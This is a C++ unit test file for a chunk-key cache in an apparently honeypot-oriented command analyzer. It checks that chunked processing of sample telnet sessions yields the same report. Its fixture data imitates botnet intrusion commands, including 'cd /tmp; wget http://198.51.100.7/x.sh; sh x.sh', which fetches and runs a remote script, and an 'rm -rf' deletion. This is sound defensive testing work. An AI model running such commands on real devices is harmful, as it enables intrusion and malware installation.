// ChunkKeyCache: a worker's records, lines and program names are lexed and sent to the merge
// once per worker, and however the chunks are spread over caches (one, two alternating workers,
// a cache that drops everything after each chunk) the analysis is the same as one chunk's.
#include "analyze/chunk_key_cache.h"

#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <vector>

#include "analyze/analysis.h"
#include "analyze/chunk_builder.h"
#include "analyze/report/analyze_report.h"
#include "analyze/report/report_format.h"
#include "analyze_test_support.h"

namespace busytrap::analyze {
namespace {

struct Command {
  std::string session;
  std::int64_t timestamp;
  std::string input;
};

// Sessions s0..s11 type overlapping command mixes, two sessions end and their keys come back.
std::vector<Command> sample_commands() {
  const std::vector<std::string> inputs = {
      "enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts; /bin/busybox ECCHI",
      "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "/bin/busybox BAT", "echo \"a;b\"; busybox ps",
      "rm -rf upnp; > dvrHelper; /bin/busybox BAT"};
  std::vector<Command> commands;
  for (int i = 0; i < 240; ++i) {
    commands.push_back(Command{"s" + std::to_string(i % 12), 1000 + i,
                               inputs[static_cast<std::size_t>((i * 7 + i / 12) % 10)] + (i % 37 == 0 ? " new" : "")});
  }
  return commands;
}

// Feeds `commands` to builders, `per_chunk` commands per chunk, chunk i built with
// caches[i % caches.size()] (null: the builder's own), merged in order; returns the JSON report.
std::string analyze_in_chunks(const std::vector<Command>& commands, std::size_t per_chunk,
                              const std::vector<ChunkKeyCache*>& caches, std::vector<ChunkResult>* kept = nullptr) {
  AnalysisOptions options;
  Analysis analysis(options);
  for (std::size_t begin = 0, chunk = 0; begin < commands.size(); begin += per_chunk, ++chunk) {
    ChunkResult result;
    {
      ChunkBuilder builder(options, result, nullptr, caches[chunk % caches.size()]);
      for (std::size_t i = begin; i < commands.size() && i < begin + per_chunk; ++i) {
        const Command& c = commands[i];
        builder.event(c.session, c.timestamp, Protocol::Telnet, {}, EventKind::Other);
        builder.command(c.session, c.timestamp, c.input, {});
        if (i == 100 || i == 170) builder.event("s3", c.timestamp, Protocol::Telnet, {}, EventKind::SessionEnd);
      }
    }
    analysis.merge(result);
    if (kept) kept->push_back(std::move(result));
  }
  analysis.finish();
  const AnalyzeReport report = build_report(analysis, PipelineReport{}, ReportLimits{}, testing::load_linux_programs());
  return render_report(report, ReportFormat::Json, false);
}

TEST(ChunkKeyCache, ChunksSpreadOverCachesGiveTheOneChunkAnalysis) {
  const std::vector<Command> commands = sample_commands();
  const std::string whole = analyze_in_chunks(commands, commands.size(), {nullptr});
  ASSERT_NE(whole.find("/bin/busybox ECCHI"), std::string::npos);

  ChunkKeyCache one(0);
  EXPECT_EQ(analyze_in_chunks(commands, 17, {&one}), whole);
  ChunkKeyCache first(0), second(1);
  EXPECT_EQ(analyze_in_chunks(commands, 13, {&first, &second}), whole);
  ChunkKeyCache forgetful(0, 0);  // passes its limit after every chunk
  EXPECT_EQ(analyze_in_chunks(commands, 11, {&forgetful}), whole);
  ChunkKeyCache forgetful_a(0, 0), keeping_b(1);
  EXPECT_EQ(analyze_in_chunks(commands, 7, {&forgetful_a, &keeping_b}), whole);
  EXPECT_EQ(analyze_in_chunks(commands, 19, {nullptr}), whole);
}

TEST(ChunkKeyCache, ARepeatedRecordCrossesToTheMergeOnce) {
  std::vector<Command> commands;
  for (int i = 0; i < 40; ++i) commands.push_back(Command{"s" + std::to_string(i % 3), i, "cd /tmp; /bin/busybox BAT"});
  ChunkKeyCache cache(5);
  std::vector<ChunkResult> chunks;
  analyze_in_chunks(commands, 10, {&cache}, &chunks);
  ASSERT_EQ(chunks.size(), 4u);
  EXPECT_TRUE(chunks[0].key_history_reset);
  EXPECT_EQ(chunks[0].key_source, 5u);
  EXPECT_EQ(chunks[0].line_keys.size(), 2u);
  EXPECT_EQ(chunks[0].program_keys.size(), 2u);
  ASSERT_EQ(chunks[0].new_record_pieces.size(), 1u);
  EXPECT_EQ(chunks[0].new_record_pieces[0], 2u);
  for (std::size_t i = 1; i < chunks.size(); ++i) {
    EXPECT_FALSE(chunks[i].key_history_reset) << i;
    EXPECT_EQ(chunks[i].line_keys.size(), 0u) << i;
    EXPECT_EQ(chunks[i].program_keys.size(), 0u) << i;
    EXPECT_TRUE(chunks[i].new_record_pieces.empty()) << i;
    EXPECT_TRUE(chunks[i].pieces.empty()) << i;
    ASSERT_EQ(chunks[i].records.size(), 10u) << i;
    EXPECT_EQ(chunks[i].records[0].record, 0u) << i;
  }
}

TEST(ChunkKeyCache, PastItsLimitTheCacheStartsAfreshAndSaysSo) {
  std::vector<Command> commands;
  for (int i = 0; i < 20; ++i) commands.push_back(Command{"s", i, "uname -a; id"});
  ChunkKeyCache cache(0, 0);
  std::vector<ChunkResult> chunks;
  analyze_in_chunks(commands, 10, {&cache}, &chunks);
  ASSERT_EQ(chunks.size(), 2u);
  for (const ChunkResult& chunk : chunks) {
    EXPECT_TRUE(chunk.key_history_reset);
    EXPECT_EQ(chunk.line_keys.size(), 2u);
    EXPECT_EQ(chunk.new_record_pieces.size(), 1u);
  }
  EXPECT_EQ(cache.records.size(), 1u);
}

// A recycled ChunkResult (the pipeline reuses merged ones) is as empty as a new one.
TEST(ChunkResult, RecycledIsEmpty) {
  std::vector<Command> commands;
  for (int i = 0; i < 20; ++i) commands.push_back(Command{"s" + std::to_string(i), i, "uname -a; id"});
  std::vector<ChunkResult> chunks;
  analyze_in_chunks(commands, 20, {nullptr}, &chunks);
  ChunkResult& result = chunks[0];
  ASSERT_FALSE(result.records.empty());
  result.recycle();
  EXPECT_EQ(result.events, 0u);
  EXPECT_EQ(result.session_keys.size(), 0u);
  EXPECT_EQ(result.line_keys.size(), 0u);
  EXPECT_TRUE(result.sessions.empty());
  EXPECT_TRUE(result.records.empty());
  EXPECT_TRUE(result.pieces.empty());
  EXPECT_TRUE(result.new_record_pieces.empty());
  EXPECT_TRUE(result.key_history_reset);
  EXPECT_EQ(result.session_keys.intern("s7"), 0u);
}

}  // namespace
}  // namespace busytrap::analyze
